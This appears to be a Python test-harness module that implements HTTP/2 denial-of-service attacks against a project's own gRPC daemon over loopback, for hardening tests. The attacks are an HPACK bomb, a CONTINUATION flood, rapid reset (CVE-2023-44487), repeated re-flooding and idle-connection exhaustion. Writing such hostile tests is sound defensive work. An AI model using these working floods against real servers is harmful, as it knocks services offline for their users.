"""Misbehaving HTTP/2 clients: the attacks of tests/hostile, written against raw HTTP/2.

Two clients, both on one I/O thread per connection that owns the socket (TLS is
done in memory with `ssl.SSLObject`, so reading and writing never race on an
SSL socket):

- `H2Client`: a protocol-correct client on top of hyper-h2 (`h2`), for attacks
  made of legal moves: a zero receive window, streams that never end, bytes
  dribbled one at a time, headers with unusual values, answers never read.
- `RawH2`: sends frames built by hand and only watches what comes back (GOAWAY,
  resets, the connection closing), for attacks h2 would refuse to make: HPACK
  bombs, CONTINUATION floods, rapid reset.

`Endpoint` says where and how to connect (TCP, TLS, mTLS, unix socket), for the
attackers here and for the grpcio channels of the well-behaved clients.
Every attack is bounded in count and time; none leaves loopback.
"""

from __future__ import annotations

import contextlib
import os
import selectors
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterable, Sequence
from dataclasses import dataclass, field
from pathlib import Path

import grpc
import grpc.aio
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import (
    ConnectionTerminated,
    DataReceived,
    RemoteSettingsChanged,
    ResponseReceived,
    StreamEnded,
    StreamReset,
    TrailersReceived,
)
from h2.exceptions import H2Error
from h2.settings import SettingCodes, Settings

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113).
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8, 0x9,
)  # fmt: skip
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
ENHANCE_YOUR_CALM = 0xB

HEALTH_CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
SAVE_STATE = "/stratad.api.v1.CheckpointService/SaveState"
SAVE_STATES = "/stratad.api.v1.CheckpointService/SaveStates"
LOAD_STATE = "/stratad.api.v1.CheckpointService/LoadState"


# --- where to connect ---------------------------------------------------------------


@dataclass(frozen=True)
class Endpoint:
    """One listener of the daemon and how a client reaches it.

    ``kind``: ``tcp`` (plaintext TCP: the native front door), ``tls``, ``mtls``
    (TLS with a client certificate) or ``unix`` (``listen_unix``). ``address``
    is ``host:port`` or a socket path.
    """

    kind: str
    address: str
    ca_file: Path | None = None
    cert_file: Path | None = None
    key_file: Path | None = None

    @property
    def tls(self) -> bool:
        return self.kind in ("tls", "mtls")

    @property
    def target(self) -> str:
        """The grpcio target string."""
        return f"unix:{self.address}" if self.kind == "unix" else self.address

    @property
    def authority(self) -> str:
        return "localhost" if self.kind == "unix" else self.address

    def ssl_context(self) -> ssl.SSLContext:
        context = ssl.create_default_context(cafile=str(self.ca_file))
        context.set_alpn_protocols(["h2"])
        if self.cert_file is not None and self.key_file is not None:
            context.load_cert_chain(str(self.cert_file), str(self.key_file))
        return context

    def open_socket(self, timeout: float = 5.0) -> socket.socket:
        """A connected plain socket (TCP or unix); no TLS, no HTTP/2 yet."""
        if self.kind == "unix":
            sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            sock.settimeout(timeout)
            sock.connect(self.address)
        else:
            host, _, port = self.address.rpartition(":")
            sock = socket.create_connection((host, int(port)), timeout=timeout)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        return sock

    def _credentials(self) -> grpc.ChannelCredentials:
        assert self.ca_file is not None
        key = self.key_file.read_bytes() if self.key_file else None
        chain = self.cert_file.read_bytes() if self.cert_file else None
        return grpc.ssl_channel_credentials(self.ca_file.read_bytes(), key, chain)

    def channel(self, *, options: Sequence[tuple[str, object]] = ()) -> grpc.Channel:
        """A grpcio channel with a connection of its own (no shared subchannel)."""
        opts = [("grpc.use_local_subchannel_pool", 1), *options]
        if not self.tls:
            return grpc.insecure_channel(self.target, options=opts)
        return grpc.secure_channel(self.target, self._credentials(), options=opts)

    def aio_channel(self, *, options: Sequence[tuple[str, object]] = ()) -> grpc.aio.Channel:
        """As `channel`, for grpc.aio (call from the event loop that will use it)."""
        opts = [("grpc.use_local_subchannel_pool", 1), *options]
        if not self.tls:
            return grpc.aio.insecure_channel(self.target, options=opts)
        return grpc.aio.secure_channel(self.target, self._credentials(), options=opts)


# --- one connection, one I/O thread ---------------------------------------------------


class _Wire:
    """A connection whose socket only its own I/O thread touches.

    `write` queues bytes (encrypted here under TLS) and wakes the thread;
    the thread sends what the kernel takes, reads what arrives and hands the
    plaintext to `_received`. ``pending`` is what is queued but not yet taken
    by the kernel: when it stays large, the server has stopped reading us.
    """

    def __init__(self, endpoint: Endpoint, timeout: float = 5.0) -> None:
        self.endpoint = endpoint
        self._sock = endpoint.open_socket(timeout)
        self._tls: ssl.SSLObject | None = None
        self._bio_in = ssl.MemoryBIO()
        self._bio_out = ssl.MemoryBIO()
        if endpoint.tls:
            try:
                self._handshake(timeout)
            except BaseException:
                self._sock.close()
                raise
        self._sock.setblocking(False)
        self._lock = threading.RLock()
        self.changed = threading.Condition(self._lock)
        self._out = bytearray()
        self.closed = False
        self.close_reason = ""
        self.bytes_sent = 0
        self._stop = False
        self._wake_r, self._wake_w = os.pipe()
        os.set_blocking(self._wake_r, False)
        os.set_blocking(self._wake_w, False)
        self._thread = threading.Thread(target=self._run, name="h2attack-io", daemon=True)

    def _handshake(self, timeout: float) -> None:
        context = self.endpoint.ssl_context()
        tls = context.wrap_bio(self._bio_in, self._bio_out, server_hostname="localhost")
        deadline = time.monotonic() + timeout
        while True:
            try:
                tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush_tls_blocking()
                if time.monotonic() > deadline:
                    raise TimeoutError("TLS handshake timed out") from None
                data = self._sock.recv(65536)
                if not data:
                    raise ConnectionError("closed during the TLS handshake") from None
                self._bio_in.write(data)
        self._flush_tls_blocking()
        if tls.selected_alpn_protocol() != "h2":
            raise ConnectionError(f"ALPN gave {tls.selected_alpn_protocol()!r}, not h2")
        self._tls = tls

    def _flush_tls_blocking(self) -> None:
        pending = self._bio_out.read()
        if pending:
            self._sock.sendall(pending)

    @property
    def pending(self) -> int:
        with self._lock:
            return len(self._out)

    def write(self, data: bytes) -> None:
        """Queue ``data`` for sending (never blocks)."""
        with self._lock:
            if self.closed:
                return
            if self._tls is not None:
                self._tls.write(data)
                self._out += self._bio_out.read()
            else:
                self._out += data
        with contextlib.suppress(BlockingIOError, OSError):
            os.write(self._wake_w, b"x")

    def wait_drained(self, timeout: float, below: int = 0) -> bool:
        """Wait until at most ``below`` bytes are queued; False on timeout or close."""
        deadline = time.monotonic() + timeout
        with self.changed:
            while len(self._out) > below and not self.closed:
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self.changed.wait(min(left, 0.05))
            return not self.closed

    def _run(self) -> None:
        selector = selectors.DefaultSelector()
        selector.register(self._sock, selectors.EVENT_READ)
        selector.register(self._wake_r, selectors.EVENT_READ)
        want_write = False
        try:
            while not self._stop:
                with self._lock:
                    has_out = bool(self._out)
                if has_out != want_write:
                    events = selectors.EVENT_READ | (selectors.EVENT_WRITE if has_out else 0)
                    selector.modify(self._sock, events)
                    want_write = has_out
                for key, mask in selector.select(0.05):
                    if key.fileobj == self._wake_r:
                        with contextlib.suppress(BlockingIOError):
                            os.read(self._wake_r, 4096)
                        continue
                    if mask & selectors.EVENT_WRITE:
                        self._send_some()
                    if mask & selectors.EVENT_READ and not self._recv_some():
                        return
        except OSError as exc:
            self._mark_closed(f"{type(exc).__name__}: {exc}")
        finally:
            selector.close()

    def _send_some(self) -> None:
        with self._lock:
            chunk = bytes(self._out[: 1 << 20])
        if not chunk:
            return
        try:
            sent = self._sock.send(chunk)
        except (BlockingIOError, InterruptedError):
            return
        with self.changed:
            del self._out[:sent]
            self.bytes_sent += sent
            self.changed.notify_all()

    def _recv_some(self) -> bool:
        try:
            data = self._sock.recv(1 << 18)
        except (BlockingIOError, InterruptedError):
            return True
        except OSError as exc:
            self._mark_closed(f"{type(exc).__name__}: {exc}")
            return False
        if not data:
            self._mark_closed("EOF")
            return False
        if self._tls is not None:
            with self._lock:
                self._bio_in.write(data)
                plain = bytearray()
                while True:
                    try:
                        piece = self._tls.read(1 << 18)
                    except ssl.SSLWantReadError:
                        break
                    except ssl.SSLZeroReturnError:
                        self._mark_closed("TLS close_notify")
                        return False
                    except ssl.SSLError as exc:
                        self._mark_closed(f"TLS error: {exc}")
                        return False
                    if not piece:
                        break
                    plain += piece
                # A TLS 1.3 session ticket or key update may want to answer.
                self._out += self._bio_out.read()
            data = bytes(plain)
        if data:
            with self.changed:
                self._received(data)
                self.changed.notify_all()
        return True

    def _received(self, data: bytes) -> None:
        raise NotImplementedError

    def _mark_closed(self, reason: str) -> None:
        with self.changed:
            if not self.closed:
                self.closed = True
                self.close_reason = reason
            self.changed.notify_all()

    def close(self) -> None:
        """Stop the I/O thread and close the socket (an abrupt close, no GOAWAY)."""
        self._stop = True
        with contextlib.suppress(OSError):
            os.write(self._wake_w, b"x")
        if self._thread.is_alive() and self._thread is not threading.current_thread():
            self._thread.join(timeout=2)
        self._mark_closed(self.close_reason or "closed by us")
        with contextlib.suppress(OSError):
            self._sock.close()
        for fd in (self._wake_r, self._wake_w):
            with contextlib.suppress(OSError):
                os.close(fd)

    def __enter__(self) -> _Wire:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


# --- a protocol-correct client (hyper-h2) ------------------------------------------


@dataclass
class StreamState:
    """What came back on one stream."""

    opened: float
    headers: dict[str, str] = field(default_factory=dict)
    trailers: dict[str, str] = field(default_factory=dict)
    data: int = 0
    ended_at: float | None = None
    reset: int | None = None

    @property
    def status(self) -> int | None:
        """grpc-status from the trailers (or a Trailers-Only answer); None if none yet."""
        raw = self.trailers.get("grpc-status", self.headers.get("grpc-status"))
        return int(raw) if raw is not None else None

    @property
    def message(self) -> str:
        return self.trailers.get("grpc-message", self.headers.get("grpc-message", ""))

    @property
    def done(self) -> bool:
        return self.ended_at is not None

    def describe(self) -> str:
        if self.status is not None:
            return f"grpc-status {self.status} {self.message!r}"
        if self.reset is not None:
            return f"RST_STREAM {ErrorCodes(self.reset).name if self.reset < 14 else self.reset}"
        return "no answer"


def grpc_frame(message: bytes, compressed: bool = False) -> bytes:
    """A length-prefixed gRPC message."""
    return struct.pack(">BI", 1 if compressed else 0, len(message)) + message


def _text(value: bytes | str) -> str:
    return value.decode("latin-1") if isinstance(value, bytes) else value


class H2Client(_Wire):
    """An HTTP/2 client that follows the protocol and misuses it: see the module doc.

    ``window``: SETTINGS_INITIAL_WINDOW_SIZE it announces (0: the server may
    send no DATA on any stream). ``read``: give received DATA back as window
    (a normal client); False never sends a WINDOW_UPDATE, so the connection's
    window (65,535 bytes) is all the server can ever send.
    """

    def __init__(
        self,
        endpoint: Endpoint,
        *,
        window: int = 65535,
        read: bool = True,
        timeout: float = 5.0,
    ) -> None:
        super().__init__(endpoint, timeout)
        self.read = read
        config = H2Configuration(
            client_side=True,
            header_encoding=None,
            validate_outbound_headers=False,
            normalize_outbound_headers=False,
            validate_inbound_headers=False,
        )
        self.h2 = H2Connection(config=config)
        self.h2.local_settings = Settings(
            client=True,
            initial_values={
                SettingCodes.INITIAL_WINDOW_SIZE: window,
                SettingCodes.ENABLE_PUSH: 0,
            },
        )
        self.streams: dict[int, StreamState] = {}
        self.goaway: ConnectionTerminated | None = None
        self.protocol_error = ""
        self._settings_seen = False
        self.h2.initiate_connection()
        self._flush()  # the preface is queued before anything can answer the server
        self._thread.start()
        self._wait(lambda: self._settings_seen, timeout)

    # -- sending ---------------------------------------------------------------------

    def _flush(self) -> None:
        # Under the lock: what h2 produced must be queued in the order it was made.
        with self._lock:
            data = self.h2.data_to_send()
            if data:
                self.write(data)

    @property
    def max_streams(self) -> int:
        """The server's SETTINGS_MAX_CONCURRENT_STREAMS."""
        with self._lock:
            return int(self.h2.remote_settings.max_concurrent_streams)

    @property
    def open_streams(self) -> int:
        with self._lock:
            return int(self.h2.open_outbound_streams)

    def request(
        self,
        path: str,
        extra: Iterable[tuple[str, str]] = (),
        *,
        timeout: str | None = None,
        end_stream: bool = False,
        body: bytes = b"",
    ) -> int:
        """Open a stream with a gRPC request's headers (plus ``extra``); return its id.

        ``timeout`` is sent as grpc-timeout ("500m"); ``body`` (already
        framed) follows, ending the stream when ``end_stream``.
        """
        scheme = "https" if self.endpoint.tls else "http"
        headers = [
            (":method", "POST"),
            (":scheme", scheme),
            (":path", path),
            (":authority", self.endpoint.authority),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
        ]
        if timeout is not None:
            headers.append(("grpc-timeout", timeout))
        headers.extend(extra)
        raw = [(k.encode(), v.encode("latin-1")) for k, v in headers]
        with self._lock:
            stream_id = self.h2.get_next_available_stream_id()
            self.h2.send_headers(stream_id, raw, end_stream=end_stream and not body)
            self.streams[stream_id] = StreamState(opened=time.monotonic())
            self._flush()
        if body:
            self.send(stream_id, body, end_stream=end_stream)
        return stream_id

    def send(
        self, stream_id: int, data: bytes, *, end_stream: bool = False, timeout: float = 5.0
    ) -> bool:
        """Send DATA within the server's flow-control windows; False if they stay
        shut for ``timeout`` (the server stopped reading this stream)."""
        deadline = time.monotonic() + timeout
        view = memoryview(data)
        with self.changed:
            while True:
                if self.closed:
                    return False
                try:
                    room = min(
                        self.h2.local_flow_control_window(stream_id),
                        self.h2.max_outbound_frame_size,
                    )
                except H2Error:
                    return False  # the stream is gone (reset or closed)
                try:
                    if room > 0 and view:
                        chunk, view = view[:room], view[room:]
                        last = end_stream and not view
                        self.h2.send_data(stream_id, bytes(chunk), end_stream=last)
                        self._flush()
                        continue
                    if not view:
                        if end_stream and not data:
                            self.h2.end_stream(stream_id)
                            self._flush()
                        return True
                except H2Error:
                    return False  # the server ended or reset the stream meanwhile
                left = deadline - time.monotonic()
                if left <= 0:
                    return False
                self.changed.wait(min(left, 0.05))

    def reset(self, stream_id: int, code: int = CANCEL) -> None:
        with self._lock:
            with contextlib.suppress(H2Error):
                self.h2.reset_stream(stream_id, code)
            self._flush()

    # -- receiving -------------------------------------------------------------------

    def _received(self, data: bytes) -> None:
        try:
            events = self.h2.receive_data(data)
        except H2Error as exc:
            self.protocol_error = f"{type(exc).__name__}: {exc}"
            self._flush()
            return
        now = time.monotonic()
        for event in events:
            state = self.streams.get(getattr(event, "stream_id", 0) or 0)
            if isinstance(event, ResponseReceived) and state is not None:
                state.headers = {_text(k): _text(v) for k, v in event.headers}
            elif isinstance(event, TrailersReceived) and state is not None:
                state.trailers = {_text(k): _text(v) for k, v in event.headers}
            elif isinstance(event, DataReceived):
                if state is not None:
                    state.data += len(event.data)
                if self.read:
                    self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, StreamEnded) and state is not None:
                state.ended_at = now
            elif isinstance(event, StreamReset) and state is not None:
                state.reset = int(event.error_code)
                state.ended_at = state.ended_at or now
            elif isinstance(event, ConnectionTerminated):
                self.goaway = event
            elif isinstance(event, RemoteSettingsChanged):
                self._settings_seen = True
        self._flush()

    def _wait(self, predicate: object, timeout: float) -> bool:
        deadline = time.monotonic() + timeout
        with self.changed:
            while not predicate():  # type: ignore[operator]
                left = deadline - time.monotonic()
                if left <= 0 or self.closed:
                    return bool(predicate())  # type: ignore[operator]
                self.changed.wait(min(left, 0.05))
        return True

    def wait_done(self, stream_ids: Iterable[int], timeout: float) -> bool:
        """Wait until every stream in ``stream_ids`` ended (answered or reset)."""
        ids = list(stream_ids)
        return self._wait(lambda: all(self.streams[i].done for i in ids), timeout)

    def wait_headers(self, stream_ids: Iterable[int], timeout: float) -> bool:
        """Wait until every stream got its response headers (or ended)."""
        ids = list(stream_ids)
        return self._wait(
            lambda: all(self.streams[i].headers or self.streams[i].done for i in ids), timeout
        )

    def call(
        self,
        path: str,
        message: bytes,
        extra: Iterable[tuple[str, str]] = (),
        *,
        compressed: bool = False,
        timeout: float = 5.0,
    ) -> StreamState:
        """One whole unary call; returns its stream's state once ended (or at timeout)."""
        stream_id = self.request(path, extra, body=grpc_frame(message, compressed), end_stream=True)
        self.wait_done([stream_id], timeout)
        return self.streams[stream_id]

    @property
    def cut(self) -> bool:
        """The server sent GOAWAY or closed the connection."""
        return self.goaway is not None or self.closed


# --- raw frames ------------------------------------------------------------------------


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    length = len(payload)
    return struct.pack(">BHBBI", length >> 16, length & 0xFFFF, kind, flags, stream_id) + payload


def hpack_int(value: int, prefix_bits: int, first: int = 0) -> bytes:
    """An HPACK integer with an N-bit prefix; ``first`` holds the pattern bits."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(text: bytes) -> bytes:
    """An HPACK string literal, not Huffman-coded."""
    return hpack_int(len(text), 7) + text


def literal(name: bytes, value: bytes) -> bytes:
    """A header field, literal without indexing, new name: leaves the dynamic table alone."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed(name: bytes, value: bytes) -> bytes:
    """A header field, literal *with* incremental indexing: added to the dynamic table."""
    return b"\x40" + hpack_str(name) + hpack_str(value)


def request_block(endpoint: Endpoint, path: str, extra: bytes = b"") -> bytes:
    """A gRPC request's header block that touches no dynamic table: the same bytes
    can be sent on any number of streams."""
    scheme = b"https" if endpoint.tls else b"http"
    return (
        literal(b":method", b"POST")
        + literal(b":scheme", scheme)
        + literal(b":path", path.encode())
        + literal(b":authority", endpoint.authority.encode())
        + literal(b"content-type", b"application/grpc")
        + literal(b"te", b"trailers")
        + extra
    )


class RawH2(_Wire):
    """Sends frames built by hand; answers SETTINGS and PING as a client must and
    records what the server does: GOAWAY (code, debug data), resets, headers."""

    def __init__(self, endpoint: Endpoint, *, window: int = 65535, timeout: float = 5.0) -> None:
        super().__init__(endpoint, timeout)
        self._inbox = bytearray()
        self.goaway: tuple[int, int, bytes] | None = None
        self.resets = 0
        self.headers = 0
        self.next_stream = 1
        settings = struct.pack(">HI", 0x2, 0) + struct.pack(">HI", 0x4, window)
        self.write(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._thread.start()

    def _received(self, data: bytes) -> None:
        self._inbox += data
        while len(self._inbox) >= 9:
            length = int.from_bytes(self._inbox[:3], "big")
            if len(self._inbox) < 9 + length:
                return
            kind, flags = self._inbox[3], self._inbox[4]
            stream_id = int.from_bytes(self._inbox[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self._inbox[9 : 9 + length])
            del self._inbox[: 9 + length]
            self._frame(kind, flags, stream_id, payload)

    def _frame(self, kind: int, flags: int, stream_id: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.write(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.write(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY and len(payload) >= 8:
            last, code = struct.unpack(">II", payload[:8])
            self.goaway = (last & 0x7FFFFFFF, code, payload[8:])
        elif kind == RST_STREAM:
            self.resets += 1
        elif kind == HEADERS:
            self.headers += 1

    def new_stream(self) -> int:
        stream_id = self.next_stream
        self.next_stream += 2
        return stream_id

    @property
    def cut(self) -> bool:
        return self.goaway is not None or self.closed

    def describe(self) -> str:
        if self.goaway is not None:
            last, code, debug = self.goaway
            name = ErrorCodes(code).name if code < 14 else str(code)
            return f"GOAWAY {name} {debug[:60]!r} (last stream {last})"
        if self.closed:
            return f"closed ({self.close_reason})"
        return "still open"


# --- the attacks -------------------------------------------------------------------


@dataclass
class FloodResult:
    """What one flood did: how much it sent, for how long, and how it ended."""

    sent_frames: int = 0
    seconds: float = 0.0
    outcome: str = ""
    cut: bool = False
    cut_after: float | None = None

    def __str__(self) -> str:
        when = f" after {self.cut_after:.2f}s" if self.cut_after is not None else ""
        return f"{self.sent_frames} frames in {self.seconds:.1f}s: {self.outcome}{when}"


def _flood(client: RawH2, batches: Iterable[bytes], seconds: float) -> FloodResult:
    """Send ``batches`` as fast as the server takes them, for at most ``seconds``
    or until the server cuts the connection. Keeps at most 1 MiB queued."""
    result = FloodResult()
    start = time.monotonic()
    for batch in batches:
        if client.cut or time.monotonic() - start > seconds:
            break
        client.wait_drained(max(0.0, seconds - (time.monotonic() - start)), below=1 << 20)
        client.write(batch)
        result.sent_frames += _frames_in(batch)
    # Give the server a moment to answer the last of it.
    deadline = time.monotonic() + 1.0
    while not client.cut and time.monotonic() < deadline:
        time.sleep(0.02)
    result.seconds = time.monotonic() - start
    result.cut = client.cut
    if client.cut:
        result.cut_after = result.seconds
    result.outcome = client.describe()
    return result


def _frames_in(batch: bytes) -> int:
    count, offset = 0, 0
    while offset + 9 <= len(batch):
        offset += 9 + int.from_bytes(batch[offset : offset + 3], "big")
        count += 1
    return count


def hpack_bomb(endpoint: Endpoint, *, seconds: float = 5.0, refs: int = 16384) -> FloodResult:
    """HPACK bomb: put one 4,000-byte header into the server's dynamic table
    (its SETTINGS_HEADER_TABLE_SIZE is 4,096), then send header blocks that
    reference it ``refs`` times (one byte each: 16 KiB on the wire, 66 MB
    decoded), stream after stream, split into CONTINUATION frames."""
    client = RawH2(endpoint)
    bomb_value = b"b" * 4000
    insert = literal_indexed(b"x-bomb", bomb_value)
    index_62 = hpack_int(62, 7, 0x80)  # the first dynamic-table entry

    def batches() -> Iterable[bytes]:
        first = True
        while True:
            stream_id = client.new_stream()
            block = request_block(endpoint, HEALTH_CHECK)
            block += (insert if first else b"") + index_62 * refs
            first = False
            yield _header_frames(stream_id, block, end_stream=True)

    try:
        return _flood(client, batches(), seconds)
    finally:
        client.close()


def _header_frames(stream_id: int, block: bytes, *, end_stream: bool) -> bytes:
    """HEADERS + CONTINUATION frames carrying ``block`` (16 KiB each)."""
    size = 16384
    pieces = [block[i : i + size] for i in range(0, len(block), size)] or [b""]
    out = bytearray()
    for n, piece in enumerate(pieces):
        last = n == len(pieces) - 1
        flags = END_HEADERS if last else 0
        if n == 0:
            out += frame(HEADERS, flags | (END_STREAM if end_stream else 0), stream_id, piece)
        else:
            out += frame(CONTINUATION, flags, stream_id, piece)
    return bytes(out)


def continuation_flood(endpoint: Endpoint, *, seconds: float = 5.0) -> FloodResult:
    """CONTINUATION flood: HEADERS without END_HEADERS, then CONTINUATION frames
    of 16 KiB of valid header fields, never END_HEADERS, for ``seconds``."""
    client = RawH2(endpoint)
    stream_id = client.new_stream()
    field_ = literal(b"x-flood", b"c" * 16000)
    head = frame(HEADERS, 0, stream_id, request_block(endpoint, HEALTH_CHECK))
    more = frame(CONTINUATION, 0, stream_id, field_) * 64  # 1 MiB a batch

    def batches() -> Iterable[bytes]:
        yield head
        while True:
            yield more

    try:
        return _flood(client, batches(), seconds)
    finally:
        client.close()


def rapid_reset(
    endpoint: Endpoint, *, seconds: float = 5.0, max_streams: int = 200_000
) -> FloodResult:
    """Rapid reset (CVE-2023-44487): HEADERS of a request, then RST_STREAM
    CANCEL at once, stream after stream, 200 pairs per write, alternating a
    method the front door serves itself (SaveState) and a forwarded one
    (health Check), until ``max_streams`` or ``seconds``."""
    client = RawH2(endpoint)
    blocks = [
        request_block(endpoint, SAVE_STATE, literal(b"grpc-timeout", b"5S")),
        request_block(endpoint, HEALTH_CHECK, literal(b"grpc-timeout", b"5S")),
    ]
    rst = struct.pack(">I", CANCEL)

    def batches() -> Iterable[bytes]:
        sent = 0
        while sent < max_streams:
            out = bytearray()
            for n in range(200):
                stream_id = client.new_stream()
                out += frame(HEADERS, END_HEADERS, stream_id, blocks[n % 2])
                out += frame(RST_STREAM, 0, stream_id, rst)
            sent += 200
            yield bytes(out)

    try:
        return _flood(client, batches(), seconds)
    finally:
        client.close()


def sustained(
    flood: Callable[..., FloodResult],
    endpoint: Endpoint,
    *,
    seconds: float,
    max_connections: int = 1000,
    at_least: float = 1.0,
) -> list[FloodResult]:
    """Run ``flood`` again on a new connection each time the server cuts one,
    for ``seconds`` in all (at most ``max_connections``): an attacker does not
    stop at the first GOAWAY. Each connection floods for ``at_least`` seconds
    unless cut first (the last one may run past ``seconds``), so one that is
    still open was not cut by the flood itself. A connection the server
    refuses outright counts as cut at once."""
    results: list[FloodResult] = []
    end = time.monotonic() + seconds
    while len(results) < max_connections and (left := end - time.monotonic()) > 0:
        try:
            results.append(flood(endpoint, seconds=max(left, at_least)))
        except OSError as exc:
            results.append(FloodResult(outcome=f"refused: {exc}", cut=True, cut_after=0.0))
            time.sleep(0.05)
    return results


def open_idle(endpoint: Endpoint, count: int, *, seconds: float = 3.0) -> list[socket.socket]:
    """``count`` connections that send nothing at all (no preface, no TLS
    handshake), connected without blocking: those not established within
    ``seconds`` (a full accept backlog) or refused are dropped."""
    family = socket.AF_UNIX if endpoint.kind == "unix" else socket.AF_INET
    if endpoint.kind == "unix":
        where: object = endpoint.address
    else:
        host, _, port = endpoint.address.rpartition(":")
        where = (host, int(port))
    pending: list[socket.socket] = []
    for _ in range(count):
        sock = socket.socket(family, socket.SOCK_STREAM)
        sock.setblocking(False)
        try:
            sock.connect(where)  # type: ignore[arg-type]
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:  # refused, or the backlog of a unix socket is full
            sock.close()
            continue
        pending.append(sock)
    connected: list[socket.socket] = []
    deadline = time.monotonic() + seconds
    with selectors.DefaultSelector() as selector:
        for sock in pending:
            selector.register(sock, selectors.EVENT_WRITE)
        waiting = len(pending)
        while waiting and time.monotonic() < deadline:
            for key, _ in selector.select(max(0.0, deadline - time.monotonic())):
                sock = key.fileobj  # type: ignore[assignment]
                selector.unregister(sock)
                waiting -= 1
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    connected.append(sock)
                else:
                    sock.close()
        for key in list(selector.get_map().values()):
            key.fileobj.close()  # type: ignore[union-attr]
    return connected


def close_all(things: Iterable[object]) -> None:
    """Close sockets and clients, ignoring errors."""
    for thing in things:
        with contextlib.suppress(Exception):
            thing.close()  # type: ignore[attr-defined]
